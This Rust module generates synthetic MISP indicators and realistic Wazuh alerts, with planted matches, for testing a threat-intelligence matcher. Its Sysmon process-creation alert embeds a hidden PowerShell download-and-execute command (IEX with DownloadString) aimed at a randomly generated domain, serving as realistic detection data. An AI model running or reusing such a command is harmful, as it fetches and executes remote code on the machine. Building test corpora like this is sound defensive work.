//! Synthetic corpora for tests and benchmarks: MISP indicator sets of any size and a realistic
//! mix of Wazuh alerts (sshd, web, FIM, VirusTotal, Sysmon 1/3/11/22, Suricata, Office 365,
//! osquery, firewall, audit), some carrying a planted indicator whose expected match is
//! recorded, so tests check ground truth that the matching code did not compute.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{json, Value};

use crate::intel::snapshot::{AttributeInput, EventInfo, SnapshotBuilder};

/// One generated MISP attribute.
#[derive(Debug, Clone)]
pub struct GenAttribute {
    pub uuid: String,
    pub misp_type: &'static str,
    pub value: String,
}

/// A generated indicator set.
#[derive(Debug, Clone, Default)]
pub struct GenIntel {
    pub attributes: Vec<GenAttribute>,
}

fn hex(rng: &mut StdRng, len: usize) -> String {
    const HEX: &[u8] = b"0123456789abcdef";
    (0..len)
        .map(|_| HEX[rng.random_range(0..16)] as char)
        .collect()
}

fn word(rng: &mut StdRng, min: usize, max: usize) -> String {
    const LETTERS: &[u8] = b"abcdefghijklmnopqrstuvwxyz";
    let len = rng.random_range(min..=max);
    (0..len)
        .map(|_| LETTERS[rng.random_range(0..26)] as char)
        .collect()
}

const TLDS: [&str; 8] = ["com", "net", "org", "io", "ru", "xyz", "info", "biz"];

fn domain(rng: &mut StdRng) -> String {
    let tld = TLDS[rng.random_range(0..TLDS.len())];
    format!("{}-{}.{tld}", word(rng, 4, 9), word(rng, 3, 7))
}

/// A public-looking IPv4 address (never private, loopback or documentation space).
fn public_ipv4(rng: &mut StdRng) -> String {
    loop {
        let first = rng.random_range(11..=223u8);
        if matches!(first, 100 | 127 | 169 | 172 | 192 | 198 | 203) {
            continue;
        }
        return format!(
            "{first}.{}.{}.{}",
            rng.random_range(0..=255u8),
            rng.random_range(0..=255u8),
            rng.random_range(1..=254u8)
        );
    }
}

fn uuid(rng: &mut StdRng) -> String {
    let h = hex(rng, 32);
    format!(
        "{}-{}-4{}-8{}-{}",
        &h[0..8],
        &h[8..12],
        &h[13..16],
        &h[17..20],
        &h[20..32]
    )
}

impl GenIntel {
    /// `count` attributes in a realistic mix: hashes 45%, domains 25%, IPs 15% (1 in 20 a
    /// CIDR), URLs 10%, hostnames 3%, e-mails 2%.
    pub fn generate(count: usize, seed: u64) -> Self {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut attributes = Vec::with_capacity(count);
        for _ in 0..count {
            let roll = rng.random_range(0..100);
            let (misp_type, value) = match roll {
                0..=14 => ("md5", hex(&mut rng, 32)),
                15..=29 => ("sha1", hex(&mut rng, 40)),
                30..=44 => ("sha256", hex(&mut rng, 64)),
                45..=69 => ("domain", domain(&mut rng)),
                70..=84 => {
                    if rng.random_range(0..20) == 0 {
                        let ip = public_ipv4(&mut rng);
                        let prefix = rng.random_range(20..=30);
                        ("ip-dst", format!("{ip}/{prefix}"))
                    } else {
                        ("ip-dst", public_ipv4(&mut rng))
                    }
                }
                85..=94 => (
                    "url",
                    format!(
                        "http://{}/{}/{}.php",
                        domain(&mut rng),
                        word(&mut rng, 3, 8),
                        word(&mut rng, 3, 8)
                    ),
                ),
                95..=97 => (
                    "hostname",
                    format!("{}.{}", word(&mut rng, 3, 6), domain(&mut rng)),
                ),
                _ => (
                    "email-src",
                    format!("{}@{}", word(&mut rng, 3, 8), domain(&mut rng)),
                ),
            };
            attributes.push(GenAttribute {
                uuid: uuid(&mut rng),
                misp_type,
                value,
            });
        }
        GenIntel { attributes }
    }

    /// Builds a snapshot straight from the generated attributes (events of 1000 attributes).
    pub fn build(&self) -> crate::intel::IntelSnapshot {
        let mut builder = SnapshotBuilder::new(false, None);
        let mut event = 0;
        for (idx, attribute) in self.attributes.iter().enumerate() {
            if idx % 1000 == 0 {
                event = builder.add_event(
                    EventInfo {
                        id: (idx / 1000 + 1).to_string().into(),
                        uuid: format!("00000000-0000-4000-8000-{:012}", idx / 1000).into(),
                        info: "generated".into(),
                        threat_level_id: "2".into(),
                        date: "2026-11-26".into(),
                        orgc: "GEN".into(),
                        tags: Box::new([]),
                    },
                    &["tlp:green"],
                );
            }
            builder.add_attribute(
                event,
                &AttributeInput {
                    uuid: &attribute.uuid,
                    misp_type: attribute.misp_type,
                    category: "Network activity",
                    value: &attribute.value,
                    to_ids: true,
                    ..AttributeInput::default()
                },
                &[],
            );
        }
        builder.build()
    }

    /// The set as a MISP restSearch response.
    pub fn to_restsearch(&self) -> Value {
        let list: Vec<Value> = self
            .attributes
            .iter()
            .map(|a| {
                json!({"uuid": a.uuid, "type": a.misp_type, "category": "Network activity", "value": a.value, "to_ids": true, "deleted": false,
                       "timestamp": "1764000000", "Event": {"id": "1", "uuid": "00000000-0000-4000-8000-000000000001", "info": "generated", "threat_level_id": "2"}})
            })
            .collect();
        json!({"response": {"Attribute": list}})
    }
}

/// A generated alert and the indicator values it must match (empty for clean alerts).
#[derive(Debug, Clone)]
pub struct GenAlert {
    pub json: String,
    pub family: &'static str,
    /// Indicator values planted in the alert, as stored in MISP.
    pub planted: Vec<String>,
}

/// Alert families, as FORMATS.md describes their fields.
pub const FAMILIES: [&str; 12] = [
    "sshd",
    "web",
    "syscheck",
    "virustotal",
    "sysmon1",
    "sysmon3",
    "sysmon11",
    "sysmon22",
    "suricata",
    "office365",
    "osquery",
    "firewall",
];

/// Generates `count` alerts; with probability `hit_rate` an alert carries a value of `intel`.
pub fn generate_alerts(count: usize, intel: &GenIntel, hit_rate: f64, seed: u64) -> Vec<GenAlert> {
    let mut rng = StdRng::seed_from_u64(seed);
    (0..count)
        .map(|n| generate_alert(&mut rng, intel, hit_rate, n))
        .collect()
}

/// A random attribute of one of `types` (CIDRs excluded: an alert carries an address).
fn pick<'a>(rng: &mut StdRng, intel: &'a GenIntel, types: &[&str]) -> Option<&'a GenAttribute> {
    for _ in 0..256 {
        let attribute = &intel.attributes[rng.random_range(0..intel.attributes.len())];
        let is_cidr = attribute.misp_type == "ip-dst" && attribute.value.contains('/');
        if types.contains(&attribute.misp_type) && !is_cidr {
            return Some(attribute);
        }
    }
    None
}

/// rule id, level, description, `data`, `full_log`, and one extra top-level member.
type FamilyParts = (
    &'static str,
    u8,
    &'static str,
    Value,
    Option<String>,
    Option<(&'static str, Value)>,
);

/// A Sysmon event as Wazuh's eventchannel decoder writes it: the common fields and `fields`
/// in `eventdata` (backslashes doubled, as Wazuh does), and the event rendered as text the way
/// Windows does (`Title:\r\nRuleName: ..\r\nUtcTime: ..`), which becomes `system.message`.
fn sysmon_event(process_id: u32, title: &str, fields: &[(&str, String)]) -> Value {
    let common = [
        (
            "ruleName",
            "technique_id=T1059.001,technique_name=PowerShell".to_string(),
        ),
        ("utcTime", "2026-11-26 09:10:11.352".to_string()),
        (
            "processGuid",
            "{4dc16835-e854-6116-9224-950000000000}".to_string(),
        ),
        ("processId", process_id.to_string()),
    ];
    let mut eventdata = serde_json::Map::new();
    let mut message = format!("\"{title}:");
    for (key, value) in common.iter().chain(fields) {
        eventdata.insert((*key).to_string(), Value::String(value.clone()));
        let mut label = key.to_string();
        label[..1].make_ascii_uppercase();
        message.push_str(&format!("\r\n{label}: {}", value.replace("\\\\", "\\")));
    }
    message.push('"');
    json!({"win": {"eventdata": eventdata, "message": message}})
}

fn generate_alert(rng: &mut StdRng, intel: &GenIntel, hit_rate: f64, n: usize) -> GenAlert {
    let family = FAMILIES[rng.random_range(0..FAMILIES.len())];
    let plant = !intel.attributes.is_empty() && rng.random_bool(hit_rate);
    let mut planted = Vec::new();
    let mut take = |rng: &mut StdRng, types: &[&str], fallback: String| -> String {
        if plant && planted.is_empty() {
            if let Some(attribute) = pick(rng, intel, types) {
                planted.push(attribute.value.clone());
                return attribute.value.clone();
            }
        }
        fallback
    };
    let carries_ip = matches!(
        family,
        "sshd" | "web" | "sysmon3" | "suricata" | "office365" | "osquery" | "firewall"
    );
    let ip = if carries_ip {
        {
            let fallback = public_ipv4(rng);
            take(rng, &["ip-dst"], fallback)
        }
    } else {
        public_ipv4(rng)
    };
    let host = domain(rng);
    let agent = json!({"id": format!("{:03}", rng.random_range(1..200)), "name": format!("host-{}", word(rng, 4, 6)), "ip": "10.0.2.15"});
    let timestamp = "2026-11-26T09:10:11.123+0000";
    let (rule_id, level, description, data, full_log, extra): FamilyParts = match family {
        "sshd" => ("5712", 10, "sshd: brute force trying to get access to the system. Non existent user.",
            json!({"srcip": ip, "srcport": rng.random_range(1024..65535).to_string(), "srcuser": word(rng, 3, 8)}),
            Some(format!("Nov 26 09:10:11 web sshd[{}]: Invalid user {} from {} port {}", rng.random_range(100..99999), word(rng, 3, 8), ip, rng.random_range(1024..65535))), None),
        "web" => {
            let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)";
            let path = format!("/{}/{}.php?id={}", word(rng, 3, 8), word(rng, 3, 8), rng.random_range(1..999));
            ("31108", 5, "Web server 400 error code.", json!({"srcip": ip, "protocol": "GET", "url": path, "id": "404"}),
             Some(format!("{ip} - - [26/Nov/2026:09:10:11 +0000] \"GET {path} HTTP/1.1\" 404 153 \"-\" \"{ua}\"")), None)
        }
        "syscheck" => {
            let sha256 = { let fallback = hex(rng, 64); take(rng, &["sha256"], fallback) };
            let path = format!("/usr/local/bin/{}", word(rng, 4, 9));
            ("550", 7, "Integrity checksum changed.", json!(null), Some(format!("File '{path}' modified")),
             Some(("syscheck", json!({"path": path, "md5_after": hex(rng, 32), "sha1_after": hex(rng, 40), "sha256_after": sha256, "event": "modified", "inode_after": rng.random_range(1000..999999)}))))
        }
        "virustotal" => {
            let md5 = { let fallback = hex(rng, 32); take(rng, &["md5"], fallback) };
            ("87105", 12, "VirusTotal: Alert - malicious file", json!({"integration": "virustotal", "virustotal": {"found": "1", "malicious": "1", "source": {"file": format!("/tmp/{}", word(rng, 4, 8)), "md5": md5, "sha1": hex(rng, 40)}, "positives": "40", "total": "70"}}), None, None)
        }
        "sysmon1" => {
            let sha1 = { let fallback = hex(rng, 40); take(rng, &["sha1"], fallback) }.to_uppercase();
            let url = { let fallback = format!("http://{}/{}.ps1", domain(rng), word(rng, 3, 8)); take(rng, &["url"], fallback) };
            let cmd = format!("powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{url}')\"");
            let hashes = format!("SHA1={sha1},MD5={},SHA256={},IMPHASH={}", hex(rng, 32).to_uppercase(), hex(rng, 64).to_uppercase(), hex(rng, 32).to_uppercase());
            let user = format!("CORP\\\\{}", word(rng, 3, 8));
            ("92052", 12, "Suspicious PowerShell", sysmon_event(rng.random_range(100..9999), "Process Create", &[
                ("image", "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe".into()),
                ("fileVersion", "10.0.19041.546 (WinBuild.160101.0800)".into()),
                ("description", "Windows PowerShell".into()),
                ("product", "Microsoft® Windows® Operating System".into()),
                ("company", "Microsoft Corporation".into()),
                ("originalFileName", "PowerShell.EXE".into()),
                ("commandLine", cmd),
                ("currentDirectory", format!("C:\\\\Users\\\\{}\\\\", word(rng, 3, 8))),
                ("user", user.clone()),
                ("logonGuid", "{4dc16835-596f-6089-d6a0-040000000000}".into()),
                ("logonId", "0x4a0d6".into()),
                ("terminalSessionId", "1".into()),
                ("integrityLevel", "High".into()),
                ("hashes", hashes),
                ("parentProcessGuid", "{4dc16835-c189-6089-a003-000000002e00}".into()),
                ("parentProcessId", rng.random_range(100..9999).to_string()),
                ("parentImage", "C:\\\\Windows\\\\explorer.exe".into()),
                ("parentCommandLine", "C:\\\\Windows\\\\Explorer.EXE".into()),
                ("parentUser", user),
            ]), None, None)
        }
        "sysmon3" => ("92101", 8, "Powershell process communicating over TCP", sysmon_event(rng.random_range(100..9999), "Network connection detected", &[
                ("image", "C:\\\\Windows\\\\System32\\\\svchost.exe".into()),
                ("user", "NT AUTHORITY\\\\NETWORK SERVICE".into()),
                ("protocol", "tcp".into()),
                ("initiated", "true".into()),
                ("sourceIsIpv6", "false".into()),
                ("sourceIp", "10.0.2.20".into()),
                ("sourceHostname", "WS01.corp.local".into()),
                ("sourcePort", rng.random_range(1024..65535).to_string()),
                ("sourcePortName", "-".into()),
                ("destinationIsIpv6", "false".into()),
                ("destinationIp", ip.clone()),
                ("destinationHostname", host.clone()),
                ("destinationPort", "443".into()),
                ("destinationPortName", "https".into()),
            ]), None, None),
        "sysmon11" => ("92213", 9, "Executable dropped", sysmon_event(rng.random_range(100..9999), "File created", &[
                ("image", "C:\\\\Windows\\\\System32\\\\cmd.exe".into()),
                ("targetFilename", format!("C:\\\\Users\\\\bob\\\\AppData\\\\{}.exe", word(rng, 4, 8))),
                ("creationUtcTime", "2026-11-26 09:10:11.352".into()),
                ("user", "CORP\\\\bob".into()),
            ]), None, None),
        "sysmon22" => {
            let query = { let fallback = domain(rng); take(rng, &["domain", "hostname"], fallback) };
            ("92200", 6, "Sysmon - Event 22: DNS query", sysmon_event(rng.random_range(100..9999), "Dns query", &[
                ("queryName", query),
                ("queryStatus", "0".into()),
                ("queryResults", format!("::ffff:{};", public_ipv4(rng))),
                ("image", "C:\\\\Program Files\\\\Mozilla Firefox\\\\firefox.exe".into()),
                ("user", "CORP\\\\bob".into()),
            ]), None, None)
        }
        "suricata" => {
            let http_host = { let fallback = host.clone(); take(rng, &["domain", "hostname"], fallback) };
            ("86601", 3, "Suricata: Alert - ET POLICY", json!({"event_type": "alert", "src_ip": "10.0.2.15", "src_port": "51234", "dest_ip": ip, "dest_port": "80", "proto": "TCP",
                "alert": {"signature": "ET POLICY something", "signature_id": "2019401", "severity": "2"}, "http": {"hostname": http_host, "url": format!("/{}", word(rng, 3, 9)), "http_user_agent": "curl/8.4.0"}}), None, None)
        }
        "office365" => ("91545", 6, "Office 365: Successful login", json!({"integration": "office365", "office365": {"Operation": "UserLoggedIn", "ClientIP": format!("{ip}:{}", rng.random_range(1024..65535)), "UserId": format!("{}@corp.example", word(rng, 3, 8))}}), None, None),
        "osquery" => ("24010", 7, "osquery: network connection", json!({"osquery": {"name": "pack_net", "action": "added", "columns": {"remote_address": ip, "local_address": "10.0.2.15", "path": format!("/usr/bin/{}", word(rng, 3, 8))}}}), None, None),
        _ => ("4101", 5, "Firewall drop event.", json!({"action": "DROP", "srcip": ip, "dstip": "10.0.2.15", "protocol": "TCP", "srcport": "4444", "dstport": "22"}),
            Some(format!("Nov 26 09:10:11 fw kernel: DROP IN=eth0 SRC={ip} DST=10.0.2.15 PROTO=TCP SPT=4444 DPT=22")), None),
    };
    // Rules carry MITRE and compliance mappings, as Wazuh's ruleset does.
    let rule = json!({"level": level, "description": description, "id": rule_id, "firedtimes": rng.random_range(1..500), "mail": false,
        "mitre": {"id": ["T1110"], "tactic": ["Credential Access"], "technique": ["Brute Force"]},
        "groups": [family, "authentication_failures"], "gdpr": ["IV_35.7.d", "IV_32.2"], "hipaa": ["164.312.b"],
        "nist_800_53": ["SI.4", "AU.14", "AC.7"], "pci_dss": ["11.4", "10.2.4", "10.2.5"], "tsc": ["CC6.1", "CC6.8", "CC7.2", "CC7.3"]});
    let mut alert = json!({"timestamp": timestamp, "rule": rule,
        "agent": agent, "manager": {"name": "wazuh-manager"}, "id": format!("1764148211.{n}"), "decoder": {"name": family}, "location": family});
    if family.starts_with("sysmon") {
        // The eventchannel system block, with its rendered message (free text Wazuh keeps).
        let system = json!({"providerName": "Microsoft-Windows-Sysmon", "providerGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
            "eventID": family.trim_start_matches("sysmon"), "version": "5", "level": "4", "task": "1", "opcode": "0", "keywords": "0x8000000000000000",
            "systemTime": "2026-11-26T09:10:11.3643213Z", "eventRecordID": rng.random_range(1000..999999).to_string(), "processID": "2204", "threadID": "3300",
            "channel": "Microsoft-Windows-Sysmon/Operational", "computer": "WS01.corp.local", "severityValue": "INFORMATION"});
        if let Some(win) = data.get("win").cloned() {
            let mut win = win;
            let mut system = system;
            // The rendered message travels in `win.message` from `sysmon_event` to its place.
            if let Some(message) = win.as_object_mut().and_then(|w| w.remove("message")) {
                system["message"] = message;
            }
            win["system"] = system;
            let mut data_with_system = data.clone();
            data_with_system["win"] = win;
            alert["data"] = data_with_system;
        }
    } else if matches!(family, "sshd" | "firewall") {
        alert["predecoder"] =
            json!({"program_name": family, "timestamp": "Nov 26 09:10:11", "hostname": "web-01"});
    }
    if !data.is_null() && alert.get("data").is_none() {
        alert["data"] = data;
    }
    if let Some(full_log) = full_log {
        alert["full_log"] = Value::String(full_log);
    }
    if let Some((key, value)) = extra {
        alert[key] = value;
    }
    GenAlert {
        json: serde_json::to_string(&alert).unwrap_or_default(),
        family,
        planted,
    }
}
